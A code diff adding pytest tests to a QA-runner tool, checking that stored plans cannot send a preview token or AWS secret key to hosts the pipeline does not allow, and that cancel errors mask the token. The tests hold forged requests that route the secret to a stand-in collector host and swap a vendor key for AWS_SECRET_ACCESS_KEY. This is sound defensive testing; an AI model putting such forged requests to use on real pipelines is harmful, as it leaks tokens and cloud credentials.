@@ -4,8 +4,17 @@ from __future__ import annotations
 
 import base64
 import json
+import re
+from dataclasses import replace
 from typing import TYPE_CHECKING
 from urllib.parse import quote
+
+import pytest
+from msgspec import structs
+
+from qarunner.app import session
+from qarunner.errors import UserError
+from qarunner.plan.model import from_json
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -156,3 +165,49 @@ def test_a_secret_that_is_bound_to_a_host_is_not_sent_to_another(begin: Begin) -
     )
     assert ended.code == 0, ended
     kept(stage, ended)
+
+
+def test_whatever_plan_asks_for_more_than_the_pipeline_allows_sends_nothing(stage: Stage) -> None:
+    """A stored run may be written by somebody else, and a digest without a key does not tell."""
+    private(stage)
+    assert stage.run("plan", *ALLOWED, "--out", "plan.json").code == 0
+    path = stage.folder / "plan.json"
+    plan = from_json(path.read_bytes(), path=path)
+    allowed, secrets = frozenset({ALLOWED[1]}), {"PREVIEW_TOKEN": TOKEN}
+    session.connect(plan, stage.environ, secrets, allowed=allowed)
+    (job,), vendor = plan.jobs, plan.vendors["doksi"]
+    assert isinstance(job.request.body, dict)
+    elsewhere = {**job.request.body, "matrix": [{"web_url": "https://collect.example/?t=⟦secret:PREVIEW_TOKEN⟧"}]}
+    forged = {
+        "--allow-secret PREVIEW_TOKEN@collect.example is missing": replace(job.request, body=elsewhere),
+        "--allow-secret PREVIEW_TOKEN@doksi is missing": replace(job.request, query=(("q", "⟦secret:PREVIEW_TOKEN⟧"),)),
+        "has to begin with exactly one /": replace(job.request, path="http://collect.example/runs"),
+        "the secret OTHER is not set": replace(job.request, path="/⟦secret:OTHER⟧"),
+    }
+    for words, request in forged.items():
+        other = structs.replace(plan, jobs=(structs.replace(job, request=request),))
+        with pytest.raises(UserError, match=re.escape(words)) as caught:
+            session.connect(other, stage.environ, secrets, allowed=allowed)
+        assert traces(f"{caught.value.message} {caught.value.hint}", TOKEN) == []
+        session.connect(other, stage.environ, secrets, allowed=allowed, cancels=True)
+    stolen = structs.replace(plan, vendors={"doksi": structs.replace(vendor, key_env="AWS_SECRET_ACCESS_KEY")})
+    environ = {**stage.environ, "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI"}
+    for cancels in (False, True):
+        with pytest.raises(UserError, match="AWS_SECRET_ACCESS_KEY must not be sent to doksi as its key"):
+            session.connect(stolen, environ, secrets, allowed=allowed, cancels=cancels)
+
+
+def test_a_cancel_masks_what_it_may_not_send(begin: Begin) -> None:
+    """As the reaper calls it: without the options of the apply."""
+    error = {"error": f"?token={TOKEN} is over"}
+    stage = begin(
+        certyn={"default": "hang", "faults": [{"on": "POST /api/ci/runs/{runId}/cancel", "status": 422, "body": error}]}
+    )
+    stage.environ["PREVIEW_TOKEN"] = TOKEN
+    entry = stage.certyn("smoke", options={"instruction": "{{ env.PREVIEW_TOKEN }}"})
+    stage.commit(entry, env={"PREVIEW_TOKEN": {"secret": True}})
+    applied = stage.apply("--detach", "--allow-secret", "PREVIEW_TOKEN@certyn")
+    assert applied.code == 0, applied
+    cancelled = stage.run("cancel", "r1")
+    assert "is over" in cancelled.text
+    kept(stage, applied, cancelled, stage.run("status", "r1"))
